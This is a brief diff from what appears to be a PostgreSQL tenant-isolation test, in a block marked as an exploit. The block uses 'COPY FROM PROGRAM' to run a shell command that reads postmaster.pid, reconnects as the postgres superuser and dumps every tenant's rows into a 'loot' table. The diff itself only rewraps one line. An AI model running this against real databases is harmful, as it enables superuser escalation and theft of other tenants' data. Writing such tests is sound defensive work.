@@ -21,7 +21,8 @@ select from items where tenant_id = :'A';
 -- @exploit
 create temporary table loot (line text);
 do $$ begin
-  execute format('copy loot from program %L', 'psql -XAtq -U postgres -h "$(sed -n 5p postmaster.pid)" -p "$(sed -n 4p postmaster.pid)" -c "select body from items" '
+  execute format('copy loot from program %L',
+    'psql -XAtq -U postgres -h "$(sed -n 5p postmaster.pid)" -p "$(sed -n 4p postmaster.pid)" -c "select body from items" '
     || current_database());
 exception when insufficient_privilege then null;
 end $$;
